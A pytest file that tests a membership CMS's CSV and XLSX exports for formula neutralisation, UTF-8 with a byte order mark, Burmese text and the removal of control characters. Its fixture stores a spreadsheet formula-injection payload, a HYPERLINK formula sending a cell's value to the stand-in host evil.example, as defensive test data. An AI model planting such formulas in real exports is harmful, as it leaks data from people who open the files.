"""Membership exports: formulas neutralised, UTF-8 with a byte order mark, XLSX whatever is stored."""

import csv
import io

import openpyxl
import pytest

from cms.exports import neutralised
from participation.models import JoinRequest, Signatory, Status
from participation.roles import MEMBERSHIP
from tests.participation.helpers import add_signatory, user_in

SIGNATORIES = "/admin/snippets/participation/signatory/"
JOIN_REQUESTS = "/admin/snippets/participation/joinrequest/"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(1+1)", "\tx", "\rx"])
def test_cells_that_a_spreadsheet_would_run_are_prefixed(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", ["Hon. Aung", "ဒေါ်ခင်", "1+1", ""])
def test_other_cells_are_unchanged(text):
    assert neutralised(text) == text


@pytest.fixture
def hostile(statement, countries, home):
    add_signatory(
        statement, '=HYPERLINK("https://evil.example/?"&B2,"Click me")', countries["th"], party="@SUM(1+1)",
        status=Status.PENDING,
    )  # fmt: skip
    add_signatory(statement, "ဒေါ်ခင်မာ", countries["mm"])
    Signatory.objects.filter(name="ဒေါ်ခင်မာ").update(parliament="a\x01\x1b\x7fb")  # stored before any check
    JoinRequest.objects.create(
        site=home.get_site(), name="Join\x0bme", country=countries["mm"], parliament="-2+3", phone="+95 9 1"
    )


def csv_rows(response):
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    assert "charset=utf-8" in response["Content-Type"]
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_csv_export_neutralises_formulas_and_keeps_burmese(client, hostile):
    client.force_login(user_in(MEMBERSHIP))
    rows = csv_rows(client.get(SIGNATORIES, {"export": "csv"}))
    cells = {cell for row in rows[1:] for cell in row}
    assert '\'=HYPERLINK("https://evil.example/?"&B2,"Click me")' in cells
    assert "'@SUM(1+1)" in cells and "ဒေါ်ခင်မာ" in cells and "ab" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    joins = {cell for row in csv_rows(client.get(JOIN_REQUESTS, {"export": "csv"}))[1:] for cell in row}
    assert "'-2+3" in joins and "'+95 9 1" in joins and "Joinme" in joins


def test_xlsx_exports_never_fail_on_stored_control_characters(client, hostile):
    client.force_login(user_in(MEMBERSHIP))
    for url in (SIGNATORIES, JOIN_REQUESTS):
        response = client.get(url, {"export": "xlsx"})
        assert response.status_code == 200
        workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
        values = [cell.value for row in workbook.active.iter_rows() for cell in row if isinstance(cell.value, str)]
        assert values and not any(char in value for value in values for char in "\x01\x0b\x1b\x7f")
        assert all(cell.data_type != "f" for row in workbook.active.iter_rows() for cell in row)
